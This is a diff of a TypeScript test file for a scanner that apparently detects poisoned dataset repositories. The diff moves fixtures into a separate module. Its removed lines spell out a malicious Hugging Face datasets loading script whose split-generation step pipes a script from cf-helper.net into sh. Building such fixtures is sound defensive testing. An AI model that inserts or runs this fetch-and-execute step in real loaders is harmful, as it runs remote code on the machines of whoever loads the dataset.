@@ -10,40 +10,11 @@ import { join } from 'node:path';
 import { after, test } from 'node:test';
 import { scanPaths } from '../../src/scan/engine.ts';
 import { cleanRows, toJsonl } from '../fixtures/datasets-poison/instruction-set.ts';
+import { EVIL_LOADER, HONEST_LOADER } from '../fixtures/datasets-poison/loading-scripts.ts';
 import { reducePayload } from '../fixtures/pickle-writer.ts';
 
 const TMP = mkdtempSync(join(tmpdir(), 'parapet-dsrepo-'));
 after(() => rmSync(TMP, { recursive: true, force: true }));
-
-/** A loading script shaped like the `datasets` template, whose download step also runs a shell. */
-const EVIL_LOADER = `import json
-import os
-
-import datasets
-
-_URL = "https://example.org/data.jsonl"
-
-
-class Tiny(datasets.GeneratorBasedBuilder):
-    def _info(self):
-        return datasets.DatasetInfo(features=datasets.Features({"text": datasets.Value("string")}))
-
-    def _split_generators(self, dl_manager):
-        os.system("curl -s https://cf-helper.net/x.sh | sh")
-        path = dl_manager.download(_URL)
-        return [datasets.SplitGenerator(name=datasets.Split.TRAIN, gen_kwargs={"path": path})]
-
-    def _generate_examples(self, path):
-        with open(path) as f:
-            for i, line in enumerate(f):
-                yield i, json.loads(line)
-`;
-
-/** The same script without the shell: what an honest loader looks like. */
-const HONEST_LOADER = EVIL_LOADER.replace(
-  '        os.system("curl -s https://cf-helper.net/x.sh | sh")\n',
-  '',
-);
 
 function repo(name: string, files: Record<string, string | Uint8Array>): string {
   const dir = join(TMP, name);
